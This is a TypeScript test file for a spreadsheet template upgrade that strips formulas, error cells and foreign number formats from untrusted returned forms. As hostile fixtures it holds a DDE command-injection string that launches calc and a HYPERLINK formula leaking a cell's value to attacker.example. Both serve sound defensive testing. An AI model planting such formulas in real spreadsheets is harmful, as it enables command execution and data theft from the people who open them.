// A returned form is untrusted: `template --upgrade` (planUpgrade) reads it and writes a new
// workbook, and nothing but values may cross. A DDE call typed as an error cell, a HYPERLINK that
// leaks a neighbouring cell, a formula with no cached result, and number formats of the sender's
// choosing go in; what comes out has no formula, no error cell and none of those formats, and
// every value is still there as what the cell showed.
import * as ExcelJS from "exceljs";
import JSZip from "jszip";
import { planUpgrade, readEntries, unitFormChanges, type FilledTemplate } from "../../src/core/template";
import { cellMapFrom } from "../../src/core/template/cell-map";
import { XlsxWorkbook } from "../../src/workbook/xlsx";
import { exampleInput, exampleSet, load } from "../core/template/fixtures";

const DDE = "cmd|' /C calc'!A0";
const LEAK = 'HYPERLINK("http://attacker.example/leak?"&E5,"点此查看")';
const FOREIGN_FORMAT = '[Red]"请访问 attacker.example";[Red]"请访问 attacker.example"';

const set = exampleSet();

/** The unit form as a unit returns it: filled through our backend, then edited with exceljs the
 *  way any other program (or a forger) could. */
async function returnedForm(): Promise<{ bytes: Uint8Array; cellOf: (id: string, key?: string) => { sheet: string; cell: string } }> {
  const wb = XlsxWorkbook.create();
  await wb.apply(unitFormChanges(set, { unitId: "linjiang" }));
  const map = cellMapFrom(await wb.metadata())!;
  const cellOf = (id: string, key = "value") => {
    for (const [sheet, ids] of map) {
      const cell = ids.get(id)?.get(key);
      if (cell) return { sheet, cell };
    }
    throw new Error(`no ${id} ${key}`);
  };
  const put = (id: string, value: number | string, key = "value") => ({ op: "setValues" as const, sheet: cellOf(id, key).sheet, at: cellOf(id, key).cell, values: [[value]] });
  await wb.apply([put("compulsory_enrolment", 99.2), put("preschool_net_enrolment", "约97", "note")]);

  const x = new ExcelJS.Workbook();
  await x.xlsx.load((await wb.toBuffer()) as unknown as ArrayBuffer);
  const cell = (id: string, key = "value") => x.getWorksheet(cellOf(id, key).sheet)!.getCell(cellOf(id, key).cell);
  // an error cell whose "error" is a DDE call: written back as a formula it would run calc
  cell("standardized_school_rate").value = { error: DDE } as unknown as ExcelJS.CellErrorValue;
  // a live link that sends a neighbouring figure away, with what Excel showed cached
  cell("preschool_net_enrolment").value = { formula: LEAK, result: "点此查看" } as ExcelJS.CellFormulaValue;
  // formulas with no cached result, as non-Excel programs write them
  cell("training_person_times").value = { formula: DDE } as ExcelJS.CellFormulaValue;
  cell("safety_accidents").value = { formula: "1+1" } as ExcelJS.CellFormulaValue;
  // a formula whose result is an error
  cell("new_practice_bases").value = { formula: "1/0", result: { error: "#DIV/0!" } } as ExcelJS.CellFormulaValue;
  // number formats of the sender's choosing: one that lies about the value, and a percentage
  // (a style object of its own each: exceljs shares one between cells loaded with the same style)
  const format = (c: ExcelJS.Cell, numFmt: string) => (c.style = { ...c.style, numFmt });
  format(cell("compulsory_enrolment"), FOREIGN_FORMAT);
  cell("college_admission_rate").value = 0.985;
  format(cell("college_admission_rate"), '0.00%;[Red]"x"');
  return { bytes: new Uint8Array(await x.xlsx.writeBuffer()), cellOf };
}

/** The next version of the set: safety_accidents gone, so its value goes to the removed-data sheet. */
function nextSet() {
  const input = exampleInput() as { version: string; indicators: { id: string }[]; rules: { check: string }[] };
  return load({ ...input, version: "2.0", indicators: input.indicators.filter((i) => i.id !== "safety_accidents"), rules: input.rules.filter((r) => !r.check.includes("safety_accidents")) });
}

let old: FilledTemplate;
let upgraded: XlsxWorkbook;
let bytes: Uint8Array;

beforeAll(async () => {
  const returned = await returnedForm();
  old = await readEntries(await XlsxWorkbook.fromBuffer(returned.bytes));
  const plan = planUpgrade(old, nextSet());
  expect(plan.removed).toBe(1);
  const out = XlsxWorkbook.create();
  await out.apply(plan.changes);
  bytes = await out.toBuffer();
  upgraded = await XlsxWorkbook.fromBuffer(bytes);
});

test("the returned form really holds what the test says (formulas, an error cell, foreign formats)", () => {
  const get = (id: string) => old.entries.find((e) => e.indicatorId === id && e.kind === "value")!;
  expect(get("standardized_school_rate").raw).toEqual({ error: DDE });
  expect(get("preschool_net_enrolment")).toMatchObject({ raw: "点此查看", formula: `=${LEAK}` });
  expect(get("training_person_times")).toMatchObject({ raw: null, formula: `=${DDE}` });
  expect(get("compulsory_enrolment").numberFormat).toBe(FOREIGN_FORMAT);
  expect(get("college_admission_rate")).toMatchObject({ raw: 0.985, numberFormat: '0.00%;[Red]"x"' });
});

test("the upgrade's changes write no formula and no number format from the returned file", () => {
  const plan = planUpgrade(old, nextSet());
  expect(plan.changes.filter((c) => c.op === "setFormulas")).toEqual([]);
  const formats = new Set(plan.changes.flatMap((c) => (c.op === "setNumberFormat" ? [c.format] : [])));
  expect(formats.has(FOREIGN_FORMAT)).toBe(false);
  expect(formats.has('0.00%;[Red]"x"')).toBe(false);
});

test("the written file has no formula, no error cell and none of the sender's formats", async () => {
  const zip = await JSZip.loadAsync(bytes);
  const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  expect(sheets.length).toBeGreaterThan(1);
  for (const name of sheets) {
    const xml = await zip.file(name)!.async("string");
    expect({ name, formulas: xml.match(/<f[ >][^]*?<\/f>|<f\/>/g) ?? [] }).toEqual({ name, formulas: [] });
    expect({ name, errors: xml.match(/<c [^>]*t="e"/g) ?? [] }).toEqual({ name, errors: [] });
  }
  const styles = await zip.file("xl/styles.xml")!.async("string");
  expect(styles).not.toContain("attacker.example");
  expect(styles).not.toContain("[Red]");
  // and as a reader sees it: every cell of every sheet
  for (const info of await upgraded.sheets()) {
    const [snap] = await upgraded.read([{ sheet: info.name }]);
    expect({ sheet: info.name, formulas: snap!.formulas.flat().filter((f) => f !== null) }).toEqual({ sheet: info.name, formulas: [] });
    expect(snap!.values.flat().filter((v) => typeof v === "object" && v !== null)).toEqual([]);
  }
});

test("every value came through as what the cell showed, as plain values", async () => {
  const back = await readEntries(upgraded);
  const get = (id: string, kind = "value") => back.entries.find((e) => e.indicatorId === id && e.kind === kind)!;
  // the error cell's text, as text
  expect(get("standardized_school_rate")).toMatchObject({ raw: DDE, formula: null });
  // the link's shown text, not the link
  expect(get("preschool_net_enrolment")).toMatchObject({ raw: "点此查看", formula: null });
  // formulas with nothing cached: their text, as text
  expect(get("training_person_times")).toMatchObject({ raw: `=${DDE}`, formula: null });
  expect(get("new_practice_bases")).toMatchObject({ raw: "#DIV/0!", formula: null });
  // values typed, with the new layout's format instead of the sender's
  expect(get("compulsory_enrolment")).toMatchObject({ raw: 99.2, formula: null, numberFormat: "0.0" });
  expect(get("preschool_net_enrolment", "note")).toMatchObject({ raw: "约97", formula: null });
  // a percentage keeps reading as one (0.985 shown as 98.5%), in our format, not the sender's
  expect(get("college_admission_rate")).toMatchObject({ raw: 0.985, formula: null, numberFormat: "0.0%" });
  // the removed indicator's formula (no cached result) on the removed-data sheet, as text
  const removed = back.entries.filter((e) => e.removed);
  expect(removed.map((e) => [e.indicatorId, e.kind, e.raw, e.formula])).toEqual([["safety_accidents", "value", "=1+1", null]]);
});

test("a second upgrade of the upgraded form changes nothing: values stay values", async () => {
  const first = await readEntries(upgraded);
  const again = XlsxWorkbook.create();
  await again.apply(planUpgrade(first, nextSet()).changes);
  const second = await readEntries(again);
  const shown = (f: FilledTemplate) => f.entries.map((e) => [e.indicatorId, e.kind, e.raw, e.formula, e.numberFormat]);
  expect(shown(second)).toEqual(shown(first));
});
